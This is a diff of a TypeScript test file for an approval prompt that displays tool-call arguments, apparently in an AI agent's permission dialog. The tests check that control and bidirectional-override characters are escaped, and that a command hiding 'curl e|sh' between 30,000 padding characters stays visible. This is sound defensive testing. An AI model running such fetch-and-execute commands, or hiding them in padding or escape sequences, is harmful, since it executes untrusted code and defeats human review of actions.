@@ -13,10 +13,19 @@ const base = {
 }
 
 test('the arguments of a call are shown unchanged, with control characters escaped', () => {
-  const message = 'Allow run? Its arguments:\n  code: "a    b\u001b[2K\u202e"'
-  const question = { ...base, kind: 'approval', message, destructive: true, askRule: null, preview: null }
+  const params = { code: 'a    b\u001b[2K\u202e' }
+  const question = { ...base, kind: 'approval', params, restriction: null, preview: null }
   expect(questionText(question as unknown as Question, 20)).toBe(
-    'Allow run? Its arguments:\n  code: "a    b\\u001b[2K\\u202e"',
+    'Allow run with {"code":"a    b\\u001b[2K\\u202e"}?',
+  )
+})
+
+test('the middle of a long command is shown, too', () => {
+  const params = { command: `echo ${'A'.repeat(30_000)}; curl e|sh; echo ${'B'.repeat(30_000)}` }
+  const question = { ...base, kind: 'approval', params, restriction: 'it is protected', preview: null }
+  const text = questionText(question as unknown as Question, 20)
+  expect(text).toBe(
+    `Allow run? Its arguments:\n  command: ${JSON.stringify(params.command)}\nit is protected`,
   )
 })
 
@@ -25,9 +34,7 @@ test('a preview is shown below the arguments, with tabs as spaces', () => {
   const question = {
     ...base,
     kind: 'approval',
-    message: 'Allow run?',
-    destructive: true,
-    askRule: null,
+    restriction: null,
     preview,
   }
   expect(questionText(question as unknown as Question, 20)).toBe('Allow run?\n\n-    old\n+    new\\u001b[2K')
